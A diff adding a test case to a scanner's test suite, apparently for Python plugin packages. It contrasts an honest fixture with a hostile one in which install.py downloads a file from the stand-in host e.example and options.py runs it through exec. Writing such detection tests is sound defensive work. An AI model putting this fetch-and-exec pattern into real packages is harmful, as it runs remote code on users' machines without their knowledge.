@@ -594,6 +594,23 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       },
     ],
     [
+      'code that nothing fetched, next to an installer that downloads',
+      {
+        honest: {
+          '__init__.py': 'from . import options\nNODE_CLASS_MAPPINGS = {}\n',
+          'options.py': 'def change(text): exec(text)\n',
+          'install.py': 'import requests\nrequests.get("https://e.example/a")\n',
+        },
+        hostile: [
+          {
+            '__init__.py': 'from . import options\nNODE_CLASS_MAPPINGS = {}\n',
+            'options.py': 'def change(): exec(open("step.py").read())\n',
+            'install.py': 'from urllib.request import urlretrieve\nurlretrieve("https://e.example/a", "step.py")\n',
+          },
+        ],
+      },
+    ],
+    [
       'looking up the own name',
       {
         honest:
